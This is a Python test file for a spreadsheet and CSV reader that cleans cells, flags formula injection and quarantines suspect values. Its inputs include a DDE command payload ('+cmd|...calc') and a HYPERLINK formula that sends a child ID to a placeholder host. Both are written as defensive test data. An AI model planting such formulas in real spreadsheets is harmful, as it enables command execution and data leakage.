"""What every reader shares: cells cleaned and screened, findings that never carry a value, the quarantine."""

from __future__ import annotations

import datetime as dt

import pytest

from cscvault.formats.base import (
    LOC,
    MAX_CELL_CHARS,
    MAX_QUARANTINE_CHARS,
    Collector,
    clean_cell,
    frame,
    looks_like_formula,
    normalise_label,
    screen_cell,
)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, None),
        (float("nan"), None),
        ("  ", None),
        ("  A1 ", "A1"),
        (12.0, "12"),  # integral floats from workbooks lose their '.0'
        (1.5, "1.5"),
        (7, "7"),
        (dt.datetime(2021, 3, 4), "2021-03-04"),  # an Excel date at midnight is a date
        (dt.datetime(2021, 3, 4, 10, 30), "2021-03-04T10:30:00"),
        (dt.date(2021, 3, 4), "2021-03-04"),
    ],
)
def test_clean_cell(value: object, text: str | None) -> None:
    assert clean_cell(value) == text


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("x")', "+cmd|' /C calc'!A0", "@SUM(A1:A2)", "-2+3(", "\t=x("])
def test_formulas_are_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["-1", "+44 20 7946 0000", "2021-03-04", "O'Brien", "a=b"])
def test_ordinary_values_are_not_formulas(text: str) -> None:
    assert not looks_like_formula(text)


def test_a_formula_is_refused_and_quarantined_but_never_in_the_finding() -> None:
    sink = Collector("dr2.csv")
    planted = '=HYPERLINK("http://x.example/?id=A1234567")'
    assert screen_cell(planted, sink, "row 4", "child_id") is None
    [finding] = sink.findings
    assert (finding.rule_id, finding.location, finding.field) == ("FMT-010", "row 4", "child_id")
    assert "A1234567" not in finding.message and "HYPERLINK" not in finding.message
    [item] = sink.quarantine
    assert item.value == planted and item.rule_id == "FMT-010"


def test_an_oversized_cell_is_refused_without_quarantining_it() -> None:
    sink = Collector("f.csv")
    assert screen_cell("x" * (MAX_CELL_CHARS + 1), sink, "row 2", "notes") is None
    assert [f.rule_id for f in sink.findings] == ["FMT-009"]
    assert sink.quarantine == []
    assert screen_cell("fine", sink, "row 3", "notes") == "fine"


def test_the_same_problem_at_the_same_place_is_reported_once() -> None:
    sink = Collector("f.csv")
    first = sink.add("FMT-010", "row 2", "gender", value="=x()")
    again = sink.add("FMT-010", "row 2", "gender", value="=x()")  # the same row staged into a second table
    assert first is not None and again is None
    assert len(sink.findings) == len(sink.quarantine) == 1
    assert sink.add("FMT-010", "row 3", "gender", value="=x()") is not None


def test_quarantined_values_are_capped_and_keyed_to_the_child() -> None:
    sink = Collector("f.csv")
    sink.add("FMT-010", "row 2", "notes", value="=" + "y" * (2 * MAX_QUARANTINE_CHARS), child_id="A1")
    [item] = sink.quarantine
    assert len(item.value) == MAX_QUARANTINE_CHARS and item.la_child_id == "A1"


def test_fatal_findings_make_the_collector_fatal() -> None:
    sink = Collector("f.csv")
    sink.add("FMT-010", "row 2", "x")
    assert not sink.fatal
    sink.add("FMT-002")
    assert sink.fatal


def test_drop_column_records_each_column_once() -> None:
    sink = Collector("f.csv")
    for c in ("UPN", "PersonBirthDate", "UPN"):
        sink.drop_column(c)
    assert sink.dropped_columns == ["UPN", "PersonBirthDate"]


def test_frame_puts_the_location_first_and_none_for_missing() -> None:
    df = frame([{LOC: "row 2", "a": "1"}, {LOC: "row 3", "b": "x"}], ["a", "b"])
    assert list(df.columns) == [LOC, "a", "b"]
    assert df.loc[1, "a"] is None and df.loc[0, "b"] is None


def test_labels_compare_without_case_punctuation_or_spacing() -> None:
    assert normalise_label("  Child's  ID (LA)") == normalise_label("CHILD S ID LA") == "child s id la"
